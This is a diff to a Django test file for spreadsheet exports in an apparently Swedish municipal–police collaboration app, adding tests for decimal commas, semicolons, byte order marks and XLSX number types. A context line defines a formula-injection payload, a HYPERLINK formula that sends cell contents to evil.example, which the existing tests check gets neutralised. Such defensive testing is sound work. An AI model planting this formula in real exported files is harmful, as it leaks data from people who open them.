@@ -3,6 +3,7 @@ every export goes through it."""
 
 import csv
 import io
+from datetime import date
 from decimal import Decimal
 
 import pytest
@@ -11,7 +12,9 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from followup import services as followup_services
+from lagesbild.imports import parse_measurements_csv
 from samverkan.exports import FORMULA_STARTS, Table, csv_response, safe_cell, xlsx_response
+from samverkan.numbers import csv_cell
 from tests.conftest import client_for
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
@@ -71,3 +74,52 @@ def test_followup_export_neutralises_a_log_note_in_both_formats(
     note = book["Loggar"]["I2"]
     assert note.value == "'" + EVIL
     assert note.data_type == "s"
+
+
+def test_csv_is_swedish_excel_ready_semicolons_decimal_commas_and_a_byte_order_mark():
+    table = Table("Loggar", ["Datum", "Timmar", "Antal"], [[date(2026, 11, 29), Decimal("1.5"), 3]])
+    content = csv_response("x", [table]).content
+    assert content.startswith("\ufeff".encode())
+    assert content.decode("utf-8-sig").splitlines() == ["Datum;Timmar;Antal", "2026-11-29;1,5;3"]
+    assert csv_cell(Decimal("3.0")) == "3"
+    assert csv_cell(Decimal("1234.50")) == "1234,5"
+    assert csv_cell(-0.25) == "-0,25"
+    assert csv_cell(Decimal("NaN")) == ""
+
+
+def test_what_the_csv_export_writes_the_measurements_import_reads_back():
+    values = [Decimal("17.3"), Decimal("12"), Decimal("0.125"), Decimal("1234.5")]
+    table = Table(
+        "Mätvärden", ["Period", "Värde", "Kommentar"], [[str(2020 + i), v, "ok"] for i, v in enumerate(values)]
+    )
+    rows = parse_measurements_csv(csv_response("x", [table]).content)
+    assert [row.value for row in rows] == values
+    assert [row.period_start.year for row in rows] == [2020, 2021, 2022, 2023]
+
+
+def test_xlsx_keeps_real_numbers_and_dates():
+    table = Table("Loggar", ["Datum", "Timmar"], [[date(2026, 11, 29), Decimal("1.5")]])
+    sheet = load_workbook(io.BytesIO(xlsx_response("x", [table]).content))["Loggar"]
+    assert sheet["A2"].value.date() == date(2026, 11, 29)
+    assert sheet["B2"].value == 1.5
+    assert sheet["B2"].data_type == "n"
+
+
+def test_followup_csv_export_writes_hours_with_a_decimal_comma(
+    active_lofte, activities, samordnare, police_contact, police_area, kommun
+):
+    followup_services.log_activity(
+        activities[0],
+        actor=police_contact,
+        organization=police_area,
+        done_on=timezone.localdate(),
+        count=2,
+        hours=Decimal("1.5"),
+    )
+    year = timezone.localdate().year
+    params = {"start": f"{year}-01-01", "end": f"{year}-12-31", "kommun": kommun.pk, "format": "csv"}
+    rows = read_csv(client_for(samordnare).get(reverse("export"), params))
+    assert rows[1][4:7] == [timezone.localdate().isoformat(), "2", "1,5"]
+    expected = [row for row in rows if row and row[1] == "Hastighet och rattfylleri" and len(row) == 6]
+    assert expected
+    assert "." not in expected[0][4]
